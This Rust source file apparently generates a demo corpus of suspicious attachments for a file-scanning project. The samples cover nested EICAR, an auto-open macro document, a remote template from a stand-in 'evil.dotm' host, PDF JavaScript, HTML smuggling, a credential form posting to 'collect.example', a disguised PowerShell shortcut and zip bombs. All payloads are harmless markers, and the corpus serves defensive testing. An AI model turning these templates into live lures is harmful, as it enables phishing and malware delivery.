//! The inputs of `make demo`: what a person might be sent, and what the project must say about it.

use crate::office::{Ooxml, Package};
use crate::zip::Archive;
use crate::{catalog, eicar, lha, lnk, office, ole, payload, pdf, rar, streams, tarball, vba, web, zip};

/// Name and bytes of each file.
pub fn files() -> Vec<(&'static str, Vec<u8>)> {
    let text = "The meeting is on Thursday at ten. Please bring the figures of the last quarter.";
    let photo = b"A photo of a mountain, described in words. ".repeat(200);
    let invoice = b"Invoice 4711: two boxes of paper, 12.50. ".repeat(50);
    vec![
        ("page.html", web::plain("demo-page")),
        ("notes.txt", format!("{text}\r\n").into_bytes()),
        ("clean.docx", Package::new(Ooxml::Docx, text).build()),
        ("clean.pdf", pdf::Pdf::new(text, "").build("")),
        ("figures.xlsx", Package::new(Ooxml::Xlsx, "Quarter").build()),
        ("eicar.tar.xz", eicar_in_zip_in_tar_xz()),
        ("invoice.rar", {
            let archive = rar::Rar5::new().file("invoice.txt", &invoice).file("terms.txt", &invoice);
            archive.with(|r| (r.compressed, r.solid) = (true, true)).build()
        }),
        (
            "photos.lzh",
            lha::build(&[
                lha::Member::new("photos/one.txt", &photo, 2, true),
                lha::Member::new("photos/two.txt", &photo, 1, true),
            ]),
        ),
        (
            "locked.zip",
            Archive::of(vec![zip::aes256(
                "salaries.txt",
                &payload("demo-locked"),
                "correct horse battery staple",
            )])
            .build(),
        ),
        (
            "macro.docm",
            Package::new(Ooxml::Docx, "Please enable the content.")
                .project(vba::auto_open("demo-macro"))
                .build_macro(),
        ),
        (
            "template.docx",
            office::docx_with_template("http://template.example/evil.dotm", text),
        ),
        ("object.doc", ole::doc_with_package("invoice.js", b"// harmless test\nvar x = 1;\n")),
        ("javascript.pdf", pdf::javascript_in_object_stream("demo-javascript")),
        (
            "smuggling.html",
            web::smuggling("invoice.zip", &zip::simple(&[("invoice.js", b"var x = 'harmless test';\n")])),
        ),
        ("signin.html", web::credential_form("https://collect.example/post", "demo-signin")),
        ("picture.svg", web::svg("<script>alert('harmless test');</script>")),
        ("shortcut.zip", {
            let arguments = format!("{}-NoProfile -Command echo harmless test", " ".repeat(280));
            let target = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
            let link = lnk::Lnk::new(target).with(|l| (l.show, l.arguments) = (7, arguments.clone()));
            zip::simple(&[("invoice.pdf.lnk", &link.build())])
        }),
        (
            "liar.zip",
            zip::tricks()
                .into_iter()
                .find(|t| t.name.starts_with("z02"))
                .map_or(Vec::new(), |t| t.bytes),
        ),
        ("bomb-10gb.gz", streams::gzip_bomb()),
        ("bomb-10gb.zip", catalog::zip_bomb()),
    ]
}

/// EICAR in a ZIP in a tar in an xz.
pub fn eicar_in_zip_in_tar_xz() -> Vec<u8> {
    let zip = zip::simple(&[("eicar.com", &eicar())]);
    streams::xz(&tarball::simple(&[("attachments/eicar.zip", &zip)]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn eicar_lies_three_layers_deep() {
        let mut tar = Vec::new();
        lzma_rust2::XzReader::new(&eicar_in_zip_in_tar_xz()[..], true)
            .read_to_end(&mut tar)
            .unwrap();
        let mut archive = tar::Archive::new(&tar[..]);
        let mut member = archive.entries().unwrap().next().unwrap().unwrap();
        let mut inner = Vec::new();
        member.read_to_end(&mut inner).unwrap();
        let mut plain = Vec::new();
        ::zip::ZipArchive::new(std::io::Cursor::new(inner))
            .unwrap()
            .by_index(0)
            .unwrap()
            .read_to_end(&mut plain)
            .unwrap();
        assert_eq!(plain, eicar());
    }
}
